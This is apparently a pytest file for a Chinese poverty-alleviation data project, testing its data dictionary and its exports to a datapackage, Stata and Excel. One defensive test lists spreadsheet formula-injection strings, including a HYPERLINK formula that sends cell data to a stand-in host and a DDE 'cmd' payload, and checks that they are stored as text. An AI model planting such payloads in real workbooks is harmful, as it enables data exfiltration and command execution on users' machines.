"""The data dictionary covers every column of every table; Stata files keep names, text and labels."""
import pandas as pd
import pytest

from fupin import cleaning, datapackage, extraction, paths

SEED = paths.RAW_DIR / "001_47b14402c1a80d79.txt"


@pytest.fixture(scope="module")
def tables():
    doc = cleaning.clean_file(SEED)
    out = cleaning.tables([doc], [{"source_file": "x.txt", "reason": "empty file"}])
    out["facts"] = extraction.facts_frame(extraction.facts_for_doc(doc))
    return out


def test_every_column_of_the_cleaning_and_facts_tables_is_described(tables):
    for name, df in tables.items():
        assert datapackage.undocumented(name, df) == [], name


def test_the_datapackage_lists_every_table_with_its_fields(tables, tmp_path):
    import json

    path = datapackage.write_datapackage(tmp_path, tables)
    pkg = json.loads(path.read_text(encoding="utf-8"))
    res = {r["name"]: r for r in pkg["resources"]}
    assert set(tables) <= set(res) and "indicators" in res
    assert [f["name"] for f in res["facts"]["schema"]["fields"]] == list(tables["facts"].columns)


def test_stata_files_keep_long_text_and_carry_variable_labels(tables, tmp_path):
    blocks = tables["blocks"].copy()
    blocks.loc[0, "text"] = "脱贫攻坚" * 1000          # 12,000 UTF-8 bytes: too long for str2045
    path = datapackage.write_stata(blocks, tmp_path / "blocks.dta", "blocks")
    back = pd.read_stata(path)
    assert back.loc[0, "text"] == blocks.loc[0, "text"]
    facts = tables["facts"]
    p = datapackage.write_stata(facts, tmp_path / "facts.dta", "facts")
    with pd.io.stata.StataReader(p) as r:
        labels = r.variable_labels()
        data = r.read()
    assert "end" not in data.columns and {"start_pos", "end_pos"} <= set(data.columns)
    assert labels["end_pos"].startswith("End character offset")
    assert (data["end_pos"].to_numpy() == facts["end"].to_numpy()).all()


def test_excel_workbook_has_a_sheet_per_table_and_a_dictionary(tables, tmp_path):
    path = datapackage.write_excel(tables, tmp_path / "t.xlsx")
    sheets = pd.read_excel(path, sheet_name=None)
    assert set(tables) | {"dictionary"} == set(sheets)
    assert len(sheets["facts"]) == len(tables["facts"])
    assert list(sheets["facts"]["raw"]) == list(tables["facts"]["raw"])
    d = sheets["dictionary"]
    assert d[(d.table == "facts") & (d.column == "region_code")]["description"].str.contains("code").all()


def test_excel_never_stores_text_that_looks_like_a_formula_as_a_formula(tables, tmp_path):
    """A sentence quoted from a scraped page can begin with = + - @ (a spreadsheet formula, e.g. a
    DDE or HYPERLINK payload); the workbook keeps it as text, character for character."""
    from openpyxl import load_workbook

    blocks = tables["blocks"].copy()
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击查看")', "+86-891-6321234", "-2.3个百分点",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "脱贫攻坚=全面胜利"]
    blocks = blocks.iloc[:len(hostile)].copy()
    blocks["text"] = hostile
    path = datapackage.write_excel({"blocks": blocks, "facts": tables["facts"]}, tmp_path / "t.xlsx")
    wb = load_workbook(path)
    assert [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    ws = wb["blocks"]
    col = [c.value for c in ws[1]].index("text") + 1
    back = [ws.cell(row=i, column=col).value for i in range(2, len(hostile) + 2)]
    # XML reads a carriage return in text as a line feed: the text is kept, its line end normalised
    expect = [h.replace("\r", "\n") for h in hostile]
    assert back == expect
    assert all(ws.cell(row=i, column=col).quotePrefix for i in range(2, 9))  # those beginning like formulas
    assert pd.read_excel(path, sheet_name="blocks")["text"].tolist() == expect


def test_excel_replaces_characters_a_workbook_cannot_hold(tables, tmp_path):
    blocks = tables["blocks"].iloc[:1].copy()
    blocks["text"] = ["扶贫\x00资金\x1b1.2亿元"]
    path = datapackage.write_excel({"blocks": blocks}, tmp_path / "t.xlsx")
    assert pd.read_excel(path, sheet_name="blocks")["text"].tolist() == ["扶贫\ufffd资金\ufffd1.2亿元"]


def test_export_command_writes_stata_files_and_a_workbook(tmp_path, capsys):
    from fupin import cli, pipeline

    proc = tmp_path / "p"
    pipeline.build([SEED], proc)
    assert cli.main(["export", str(proc), "--to", "stata", "--out", str(tmp_path / "dta")]) == 0
    assert pd.read_stata(tmp_path / "dta" / "facts.dta").shape[0] == len(pd.read_parquet(proc / "facts.parquet"))
    assert cli.main(["export", str(proc), "--to", "excel", "--out", str(tmp_path / "xl")]) == 0
    assert "articles" in pd.read_excel(tmp_path / "xl" / "fupin_tables.xlsx", sheet_name=None)
    assert cli.main(["export", str(tmp_path / "nothing"), "--to", "excel"]) == 2


# --- the package a run writes validates with frictionless; Stata files carry value labels -----------

RUN_FILES = ["000_12cb6f852ea40fd9.txt", "001_47b14402c1a80d79.txt", "003_ffe866a64da50416.txt",
             "04_guangxi_2021_linkage_fund_traditional.txt"]


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory):
    """The tables of a run over a few raw files, written as notebooks 01 and 03 write them."""
    from fupin import checks as checks_mod, pipeline, rates as rates_mod
    from fupin.storage import read_table, write_table

    out = tmp_path_factory.mktemp("processed")
    pipeline.build([paths.RAW_DIR / n for n in RUN_FILES], out)
    facts = read_table(out, "facts")
    rates = rates_mod.compute_rates(facts)
    write_table(rates, out, "rates")
    write_table(checks_mod.find_checks(facts, rates, read_table(out, "sentences")), out, "checks")
    datapackage.write_datapackage_for(out)
    return out


def _errors(report) -> list[str]:
    return [f"{t.name}: {e.message}" for t in report.tasks for e in t.errors] + [e.message for e in report.errors]


def test_the_datapackage_of_a_run_validates_with_frictionless(run_folder):
    import frictionless

    report = frictionless.validate(str(run_folder / "datapackage.json"))
    assert report.valid, _errors(report)[:10]
    assert {t.name for t in report.tasks} >= set(datapackage.TABLE_ORDER) | {"indicators"}


def test_every_field_has_a_title_a_type_and_a_description_and_numbers_their_unit(run_folder):
    import json

    pkg = json.loads((run_folder / "datapackage.json").read_text(encoding="utf-8"))
    res = {r["name"]: r for r in pkg["resources"]}
    for name in datapackage.TABLE_ORDER:
        fields = res[name]["schema"]["fields"]
        assert [f["name"] for f in fields] == list(pd.read_parquet(run_folder / f"{name}.parquet").columns)
        for f in fields:
            assert f["title"] and f["type"] and f["description"], (name, f)
    facts = {f["name"]: f for f in res["facts"]["schema"]["fields"]}
    assert facts["value"]["type"] == "number" and "unit" in facts["value"]["unit"]
    assert facts["raw_start"]["type"] == "integer" and facts["raw_start"]["unit"] == "bytes"
    assert facts["in_body"]["type"] == "boolean"
    assert facts["qualifier"]["constraints"]["enum"][0] == "exact"
    assert res["facts"]["schema"]["primaryKey"] == ["fact_id"]
    assert res["sentences"]["schema"]["primaryKey"] == ["article_id", "sentence"]
    assert {f["name"]: f["type"] for f in res["articles"]["schema"]["fields"]}["date"] == "date"


def test_frictionless_catches_a_value_outside_the_dictionary(run_folder, tmp_path):
    """The descriptors are strict enough to matter: an unknown qualifier or a repeated key is an error."""
    import shutil

    import frictionless

    for p in run_folder.iterdir():
        shutil.copy(p, tmp_path / p.name)
    facts = pd.read_csv(tmp_path / "facts.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    facts.loc[0, "qualifier"] = "roughly"
    facts.loc[2, "fact_id"] = facts.loc[1, "fact_id"]
    facts.to_csv(tmp_path / "facts.csv", index=False, encoding="utf-8-sig", lineterminator="\n")
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    kinds = {e.type for t in report.tasks if t.name == "facts" for e in t.errors}
    assert not report.valid and {"constraint-error", "primary-key"} <= kinds


def test_the_dictionary_lists_the_codes_the_facts_schema_allows():
    from fupin.extraction import FACTS_SCHEMA, UNITS

    props = datapackage.field_props("facts")
    assert props["unit"]["values"] == UNITS
    for col in ("qualifier", "block", "period_kind"):
        allowed = [c.statistics["allowed_values"] for c in FACTS_SCHEMA.columns[col].checks
                   if "allowed_values" in (c.statistics or {})]
        assert allowed and sorted(props[col]["values"]) == sorted(allowed[0]), col
        assert props[col].get("closed") is True


def test_stata_files_carry_value_labels_for_categorical_columns(run_folder, tmp_path):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no column renamed behind our back (InvalidColumnName), no lossy cast
        written = datapackage.export_stata(run_folder, tmp_path)
    assert {p.name for p in written} >= {"facts.dta", "rates.dta", "checks.dta"}
    facts = pd.read_parquet(run_folder / "facts.parquet")
    with pd.io.stata.StataReader(tmp_path / "facts.dta") as r:
        value_labels = r.value_labels()
        variable_labels = r.variable_labels()
        data = r.read()
    assert {"unit", "qualifier", "period_kind", "block", "region_level"} <= set(value_labels)
    # codes 1, 2, ... in the dictionary's order, so the listed codes are the same in every run
    assert value_labels["unit"][1] == "CNY" and value_labels["qualifier"][1] == "exact"
    assert value_labels["period_kind"][1] == "year"
    assert any(v.startswith("other:") for v in value_labels["unit"].values())  # values found in the data too
    assert variable_labels["qualifier"].startswith("exact, approx")
    assert str(data["unit"].dtype) == "category"
    assert list(data["unit"].astype(str)) == list(facts["unit"])
    assert list(data["period_kind"].astype(str)) == list(facts["period_kind"])
    raw = pd.read_stata(tmp_path / "facts.dta", convert_categoricals=False)
    assert raw["qualifier"].dtype.kind in "iuf" and set(raw["qualifier"].dropna()) <= set(value_labels["qualifier"])
    rates = pd.read_parquet(run_folder / "rates.parquet")
    with pd.io.stata.StataReader(tmp_path / "rates.dta") as r:
        assert r.value_labels()["status"][1] == "match"
        back = r.read()
    assert list(back["status"].astype(str)) == list(rates["status"])
